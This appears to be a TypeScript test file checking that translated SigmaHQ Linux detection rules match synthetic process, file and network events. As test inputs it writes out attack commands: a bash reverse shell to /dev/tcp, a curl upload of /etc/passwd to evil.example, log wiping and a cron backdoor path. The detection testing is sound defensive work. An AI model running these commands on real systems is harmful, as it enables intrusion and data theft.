// Real SigmaHQ rules, translated and compiled by the real engine, against events in the sensor's shape:
// what the Sigma rule describes matches, and a near miss does not.
import { describe, expect, it } from 'vitest';
import { corpusTranslation, execEvent, networkEvent, openEvent } from './testing.ts';

describe('process_creation rules', () => {
  it('endswith and contains, case-insensitive as Sigma compares strings', () => {
    const rule = corpusTranslation('rules/linux/process_creation/proc_creation_lnx_base64_decode.yml');
    expect(rule.matches(execEvent({ path: '/usr/bin/base64', argv0: 'base64', args: ['-d', 'payload.b64'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/BASE64', argv0: 'BASE64', args: ['-D'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/base64', argv0: 'base64', args: ['-w0', 'file'] }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/base64x', argv0: 'base64x', args: ['-d'] }))).toBe(false);
  });

  it('reads Image as the interpreter of a script, as Sysmon does', () => {
    const rule = corpusTranslation('rules/linux/process_creation/proc_creation_lnx_bash_interactive_shell.yml');
    // ./job.sh -i run through its #!/bin/bash line: the kernel runs bash, argv becomes /bin/bash ./job.sh -i …
    const script = { path: '/opt/jobs/job.sh', interpreter: '/usr/bin/bash', argv0: '/bin/bash', args: ['./job.sh', '-i', 'now'] };
    expect(rule.matches(execEvent(script))).toBe(true);
    // A script named bash run by python: Image is python.
    expect(rule.matches(execEvent({ path: '/tmp/bash', interpreter: '/usr/bin/python3', argv0: '/usr/bin/python3', args: ['/tmp/bash', '-i', 'x'] }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/bash', argv0: 'bash', args: ['-i', '>&', '/dev/tcp/10.0.0.1/4242'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/bash', argv0: 'bash', args: ['-c', 'echo -in'] }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/bash', argv0: 'bash', args: ['-i'] }))).toBe(false); // ' -i ' needs the space after
  });

  it('selection and not 1 of filter_main_*: a filter removes only what it describes', () => {
    const rule = corpusTranslation('rules/linux/process_creation/proc_creation_lnx_clear_logs.yml');
    expect(rule.matches(execEvent({ path: '/usr/bin/rm', argv0: 'rm', args: ['-rf', '/var/log/auth.log'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/shred', argv0: 'shred', args: ['-u', '/var/spool/mail/root'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/rm', argv0: 'rm', args: ['-f', '/var/log/sysstat/sa01'] }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/rm', argv0: 'rm', args: ['-f', '--', '/var/log//dmesg.0'] }))).toBe(false);
    // The filter needs both of its fields: shred with the same command line is not filtered out.
    expect(rule.matches(execEvent({ path: '/usr/bin/shred', argv0: 'rm', args: ['-f', '/var/log/sysstat/sa01'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/rm', argv0: 'rm', args: ['-f', '/tmp/x'] }))).toBe(false);
  });

  it('1 of selection_img_* with wildcards inside contains and startswith values', () => {
    const rule = corpusTranslation('rules/linux/process_creation/proc_creation_lnx_susp_sensitive_file_access.yml');
    expect(rule.matches(execEvent({ path: '/usr/bin/vim', argv0: 'vim', args: ['/etc/resolv.conf'] }))).toBe(true); // '/etc/*.conf'
    expect(rule.matches(execEvent({ path: '/usr/bin/vim', argv0: 'vim', args: ['/etc/conf'] }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/cat', argv0: 'cat', args: ['x', '>', '/etc/hosts'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/cat', argv0: 'cat', args: ['/etc/hosts'] }))).toBe(false); // selection_img_1 needs '>'
    // filter_main_mdadm.conf: startswith 'sed -i /^*' (a wildcard) and endswith the mdadm config.
    expect(rule.matches(execEvent({ path: '/usr/bin/sed', argv0: 'sed', args: ['-i', '/^ARRAY/d', '/etc/mdadm/mdadm.conf'] }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/sed', argv0: 'sed', args: ['-i', 's/x/y/', '/etc/mdadm/mdadm.conf'] }))).toBe(true);
  });

  it('re is case-sensitive unless the rule says |re|i', () => {
    const rule = corpusTranslation('rules/linux/process_creation/proc_creation_lnx_auditctl_clear_rules.yml');
    expect(rule.matches(execEvent({ path: '/usr/sbin/auditctl', argv0: 'auditctl', args: ['-D'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/sbin/auditctl', argv0: 'auditctl', args: ['-d', 'exit,always'] }))).toBe(false);
  });

  it('all of selection_* with a list of maps (any map) and a regex alternative', () => {
    const rule = corpusTranslation('rules/linux/process_creation/proc_creation_lnx_susp_curl_fileupload.yml');
    expect(rule.matches(execEvent({ path: '/usr/bin/curl', argv0: 'curl', args: ['-F', 'f=@/etc/passwd', 'https://evil.example/up'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/curl', argv0: 'curl', args: ['--upload-file', 'x', 'https://evil.example/'] }))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/curl', argv0: 'curl', args: ['-f', 'f=@x', 'https://evil.example/up'] }))).toBe(false); // -f is not -F
    expect(rule.matches(execEvent({ path: '/usr/bin/curl', argv0: 'curl', args: ['-F', 'f=@x', 'http://LOCALHOST/up'] }))).toBe(false); // filter, any case
    expect(rule.matches(execEvent({ path: '/usr/bin/wget', argv0: 'wget', args: ['-F', 'f=@x', 'https://evil.example/up'] }))).toBe(false);
  });

  it('ParentImage and ParentCommandLine read the parent the ingest attached', () => {
    const rule = corpusTranslation('rules/linux/process_creation/proc_creation_lnx_git_shell_execution.yml');
    const git = { path: '/usr/bin/git', argv0: 'git', args: ['-p', 'help', 'config'] };
    expect(rule.matches(execEvent({ path: '/usr/bin/dash', argv0: 'sh', args: ['-c', '/bin/sh 0<&1'] }, git))).toBe(true);
    expect(rule.matches(execEvent({ path: '/usr/bin/dash', argv0: 'sh', args: ['-c', '/bin/sh 0<&1'] }, { ...git, args: ['log'] }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/dash', argv0: 'sh', args: ['-c', '/bin/sh 0<&1'] }, { ...git, path: '/usr/bin/gitk' }))).toBe(false);
  });
});

describe('file_event rules', () => {
  it('startswith and contains lists, a filter list, on files opened to be created', () => {
    const rule = corpusTranslation('rules/linux/file_event/file_event_lnx_susp_cron_file_created.yml');
    const root = { path: '/usr/bin/bash', user: 'root' };
    expect(rule.matches(openEvent('/etc/cron.d/backdoor', root))).toBe(true);
    expect(rule.matches(openEvent('/ETC/CRONTAB', root))).toBe(true);
    expect(rule.matches(openEvent('/etc/cron.daily/apt', root))).toBe(false); // filter_optional_legit_cron
    expect(rule.matches(openEvent('/etc/cron.daily/apt-compat', root))).toBe(true); // the filter is exact
    expect(rule.matches(openEvent('/etc/cron.d/backdoor', root, { flags: 0 }))).toBe(false); // read, not created
    expect(rule.matches(openEvent('/etc/cron.d/backdoor', root, { retval: -13 }))).toBe(false); // EACCES: nothing created
    expect(rule.matches(openEvent('/etc/cron.dx/backdoor', root))).toBe(false);
  });

  it('Image of the creating process and TargetFilename together', () => {
    const rule = corpusTranslation('rules/linux/file_event/file_event_lnx_wget_download_file_in_tmp_dir.yml');
    expect(rule.matches(openEvent('/tmp/payload', { path: '/usr/bin/wget' }))).toBe(true);
    expect(rule.matches(openEvent('/var/tmp/x', { path: '/usr/bin/wget' }))).toBe(true);
    expect(rule.matches(openEvent('/home/alice/payload', { path: '/usr/bin/wget' }))).toBe(false);
    expect(rule.matches(openEvent('/tmp/payload', { path: '/usr/bin/curl' }))).toBe(false);
    expect(rule.matches(execEvent({ path: '/usr/bin/wget', args: ['-O', '/tmp/payload'] }))).toBe(false); // another event type
  });
});

describe('network_connection rules', () => {
  it('Initiated, a port list and a cidr filter: outgoing connections to public peers only', () => {
    const rule = corpusTranslation('rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml');
    expect(rule.expressions).toHaveLength(1); // Initiated: 'true' rules out accepted connections
    const curl = { path: '/usr/bin/curl' };
    expect(rule.matches(networkEvent('connect', '203.0.113.7', 4444, curl))).toBe(true);
    expect(rule.matches(networkEvent('connect', '2001:db8::7', 51820, curl))).toBe(true);
    expect(rule.matches(networkEvent('connect', '203.0.113.7', 4445, curl))).toBe(false);
    expect(rule.matches(networkEvent('connect', '10.1.2.3', 4444, curl))).toBe(false); // 10.0.0.0/8
    expect(rule.matches(networkEvent('connect', '172.31.255.1', 4444, curl))).toBe(false); // 172.16.0.0/12
    expect(rule.matches(networkEvent('connect', '172.32.0.1', 4444, curl))).toBe(true); // just outside it
    expect(rule.matches(networkEvent('connect', 'fe80::1', 4444, curl))).toBe(false); // fe80::/10
    expect(rule.matches(networkEvent('accept', '203.0.113.7', 4444, curl))).toBe(false); // not initiated
  });
});
